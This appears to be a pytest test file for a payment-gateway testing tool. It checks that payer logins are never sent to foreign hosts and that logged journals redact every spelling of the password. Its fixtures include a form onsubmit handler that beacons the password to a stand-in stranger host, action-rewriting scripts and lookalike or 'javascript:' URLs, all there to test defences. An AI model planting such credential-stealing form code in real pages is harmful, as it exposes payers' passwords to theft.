"""What a payer knows goes to the gateway's own pages alone, and stands nowhere in a journal."""

from __future__ import annotations

import asyncio
import html
import time
from collections.abc import Awaitable, Callable
from urllib.parse import quote, quote_plus

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route

from payproof.contracts.entries import Checkout, Page, Step
from payproof.contracts.journal import Journal
from payproof.contracts.judging.steps import StepName
from payproof.contracts.profile import Payer, load
from payproof.simulator import GatewayServer
from payproof.suites.customer import payer_redaction as secrecy
from payproof.suites.customer.browser import Browser, BrowserTab
from payproof.suites.customer.customer import Customer
from payproof.suites.customer.hosted import HostedTab
from payproof.suites.customer.person import Person, PersonTab
from payproof.suites.customer.routing import Routing

from .test_hosted_browser import an_installed_browser, with_a_browser  # noqa: F401  # pyright: ignore[reportUnusedImport]

RECIPE = load("quatapay").hosted
PAYER = Payer("ada&co@example.test", 'p"w <é>/9', "paid")
LOGIN = "<form method=post action='{action}' {more}><input name=email><input name=password><button>Go</button></form>"


class Site:
    """A gateway and a stranger, each on a port of its own, both with pages that tests name."""

    def __init__(self) -> None:
        self.pages: dict[str, Callable[[Request, str], Response]] = {}
        self.got: dict[str, list[str]] = {"gateway": [], "stranger": []}
        self.urls: dict[str, str] = {}

    def app(self, name: str) -> Starlette:
        async def serve(request: Request) -> Response:
            body = (await request.body()).decode()
            self.got[name].append(
                f"{request.method} {request.url.path}?{request.url.query} {body} {request.headers.get('referer')}"
            )
            page = self.pages.get(request.url.path)
            return page(request, body) if page else HTMLResponse("<p>here is nothing</p>", 404)

        return Starlette(routes=[Route("/{path:path}", serve, methods=["GET", "POST"])])

    def page(self, path: str, text: str) -> None:
        self.pages[path] = lambda _request, _body: HTMLResponse(text.replace("STRANGER", self.urls["stranger"]))

    def redirect(self, path: str, to: str, status: int) -> None:
        self.pages[path] = lambda _request, _body: RedirectResponse(
            to.replace("STRANGER", self.urls["stranger"]), status
        )


def _forms(customer: Customer) -> HostedTab:
    return HostedTab(customer, PAYER, "7")


def _at(site: Site, scenario: Callable[[Customer, str], Awaitable[None]], pages: tuple[str, ...] = ()) -> Journal:
    journal = Journal(clock=time.monotonic)

    async def play() -> None:
        servers = {name: GatewayServer(site.app(name)) for name in ("gateway", "stranger")}
        for name, server in servers.items():
            await server.start()
            site.urls[name] = f"http://{'localhost' if name == 'gateway' else '127.0.0.1'}:{server.port}"
        known = tuple(page.replace("STRANGER", site.urls["stranger"]) for page in pages)
        where = Routing("https://shop.localhost", "http://127.0.0.1:1", site.urls["gateway"], pages=known)
        outside = httpx.AsyncHTTPTransport()
        customer = Customer(where, journal, RECIPE, name="customer 1", outside=outside)
        try:
            await scenario(customer, site.urls["gateway"])
        finally:
            await outside.aclose()
            for server in servers.values():
                await server.stop()

    asyncio.run(play())
    return journal


def _steps(journal: Journal) -> list[str]:
    return [entry.text for entry in journal.entries if isinstance(entry, Step) and entry.name == StepName.STUCK]


def _leaving(how: str) -> Site:
    """A gateway whose pages lead the payer elsewhere."""
    site = Site()
    action = {"action": "STRANGER/login", "redirect": "/moved", "post-redirect": "/twice"}.get(how, "/login")
    site.page("/login-form", LOGIN.format(action=action, more=""))
    site.redirect("/twice", "STRANGER/login", 307)
    site.redirect("/moved", "STRANGER/form", 302)
    site.page("/form", LOGIN.format(action="/login", more=""))
    if how == "redirect":
        site.redirect("/login-form", "STRANGER/form", 302)
    if how == "frame":
        site.page("/login-form", "<iframe src='STRANGER/form'></iframe>")
    if how == "refresh":
        site.page("/login-form", "<meta http-equiv=refresh content='0;url=STRANGER/form'>")
    return site


@pytest.mark.parametrize("how", ["action", "redirect", "post-redirect", "frame", "refresh"])
def test_forms_are_not_filled_in_for_a_stranger(how: str) -> None:
    async def scenario(customer: Customer, url: str) -> None:
        tab = await _forms(customer).open(f"{url}/login-form")
        assert tab.state == "stuck"

    site = _leaving(how)
    journal = _at(site, scenario)
    assert site.got["stranger"] == []
    (step,) = _steps(journal)
    assert site.urls["stranger"] in step
    assert f'[sandbox] pages = ["{site.urls["stranger"]}"]' in step


def test_a_host_that_is_named_gets_them() -> None:
    async def scenario(customer: Customer, url: str) -> None:
        await _forms(customer).open(f"{url}/login-form")

    site = _leaving("post-redirect")
    assert _steps(_at(site, scenario, pages=("STRANGER",))) == []
    (got,) = site.got["stranger"]
    assert got.startswith("POST /login? email=ada%26co")


def test_a_checkout_that_redirects_for_ever_is_said_to_do_so() -> None:
    async def scenario(customer: Customer, url: str) -> None:
        assert (await _forms(customer).open(f"{url}/round")).state == "stuck"

    site = Site()
    site.redirect("/round", "/round", 302)
    (step,) = _steps(_at(site, scenario))
    assert "12 times" in step


def test_plain_http_and_live_addresses_get_nothing() -> None:
    place = Routing(
        "https://shop.localhost",
        "http://127.0.0.1:1",
        "https://localhost:8443",
        pages=("https://sandbox.example/pay/sandbox/api/v1", "https://pay.example"),
        is_live=load("quatapay").is_live,
    )
    for url in (
        "https://localhost:8443/x",
        "http://localhost:8443/x",
        "http://127.0.0.1:8443/x",
        "https://[::1]:8443/x",
        "https://sandbox.example/login",
        "https://PAY.example:443/l",
    ):
        assert place.foreign(url) == "", url
    assert place.where("http://127.0.0.1:8443/x") == "checkout"
    assert place.where("http://127.0.0.1:1/x") == "integration"
    assert "plain HTTP" in place.foreign("http://pay.example/login")
    assert "live gateway" in place.foreign("https://pay.example/pay/%61pi/v1")
    for url in (
        "https://pay.example.evil.test/",
        "https://pay.example@evil.test/",
        "https://pay.example:444/",
        "javascript:alert(1)",
        "data:text/html,x",
        "https://localhost:8444/",
        "",
    ):
        assert "sandbox" in place.foreign(url), url


def test_a_person_is_not_sent_to_a_stranger() -> None:
    texts: list[str] = []

    async def play() -> PersonTab:
        place = Routing("https://shop.localhost", "http://127.0.0.1:1", "https://localhost:8443")
        customer = Customer(place, Journal(), RECIPE, name="customer 1", outside=httpx.AsyncHTTPTransport())
        checkout = Checkout(order="7", amount="1.00", currency="XAF", outcome="redirected", payment="p", payment_url="")
        tab = PersonTab(Person(texts.append), None, customer, PAYER, checkout)  # type: ignore[arg-type]
        return await (await tab.open("https://evil.test/login")).confirm()

    tab = asyncio.run(play())
    assert tab.state == "stuck"
    assert "https://evil.test" in tab.reason
    assert not any("Please" in text for text in texts)


@with_a_browser
@pytest.mark.parametrize(
    "how", ["action", "redirect", "post-redirect", "refresh", "script", "beacon", "formaction", "blank"]
)
def test_a_browser_types_and_sends_nothing_for_a_stranger(how: str) -> None:
    async def scenario(customer: Customer, url: str) -> None:
        browser = Browser()
        try:
            tab = await BrowserTab(browser, customer, PAYER, "7").open(f"{url}/login-form")
            assert (tab.state, site.urls["stranger"] in tab.reason) == ("stuck", True), tab.reason
        finally:
            await browser.aclose()

    site = _leaving(how)
    page = {
        "script": LOGIN.format(action="/login", more="onsubmit=\"this.action = 'STRANGER/login'\""),
        "beacon": LOGIN.format(
            action="/login",
            more="onsubmit=\"fetch('STRANGER/b?' + encodeURIComponent(this.password.value), {mode: 'no-cors'})\"",
        ),
        "formaction": LOGIN.format(action="/login", more="").replace(
            "<button>", "<button formaction='STRANGER/login'>"
        ),
        "blank": LOGIN.format(action="/twice", more="target=_blank"),
    }.get(how)
    if page:
        site.page("/login-form", page)
    journal = _at(site, scenario)
    assert site.got["stranger"] == []
    assert any(site.urls["stranger"] in step for step in _steps(journal))
    assert not secrecy.holds_any({PAYER.password: "x"}, repr(journal.entries))


def test_no_spelling_of_what_was_typed_stands_in_a_journal() -> None:
    word, login = PAYER.password, PAYER.login
    spelled = [
        *(word, quote(word, safe=""), quote_plus(word), quote(quote(word)), quote(word, safe="").lower()),
        *(html.escape(word), html.escape(word, quote=False), word.replace('"', "&#34;").replace("<", "&#x3C;")),
        *(word.replace('"', '\\"').replace("é", "\\u00e9"), login, html.escape(login), quote(login)),
    ]

    def echo(request: Request, body: str) -> Response:
        answer = HTMLResponse("<br>".join(spelled) + LOGIN.format(action="/again", more="method=get"))
        answer.headers["x-echo"] = quote(word)
        answer.headers["location"] = f"/x?a={quote_plus(word)}&b={login}"
        return answer

    async def scenario(customer: Customer, url: str) -> None:
        await _forms(customer).open(f"{url}/form")
        page = await customer.ask(
            "GET", f"{url}/echo", hide=secrecy.of_payer(PAYER), headers={"Referer": f"{url}/?p={quote(word)}"}
        )
        assert page.response
        assert word in page.response.body, "the walk goes on with what it really saw"

    site = Site()
    site.page("/form", LOGIN.format(action="/echo", more="").replace("method=post", "method=get"))
    site.pages["/echo"] = site.pages["/again"] = echo
    journal = _at(site, scenario)
    assert any(quote_plus(word) in got for got in site.got["gateway"]), "it was sent"
    written = [text for entry in journal.entries if isinstance(entry, Page) for text in _texts(entry)]
    assert written
    for text in written:
        for each in (*spelled, quote_plus(login)):
            assert each not in text
    assert any("<payer-password>" in text for text in written)


def _texts(page: Page) -> list[str]:
    texts = [page.request.url, page.request.body, *(value for _, value in page.request.headers)]
    return texts + ([page.response.body, *(value for _, value in page.response.headers)] if page.response else [])


def test_a_short_password_does_not_cut_words_in_two() -> None:
    hide = {"pay": "<payer-password>"}
    assert (
        secrecy.without(hide, "pay the payment, pw=pay; repay")
        == "<payer-password> the payment, pw=<payer-password>; repay"
    )
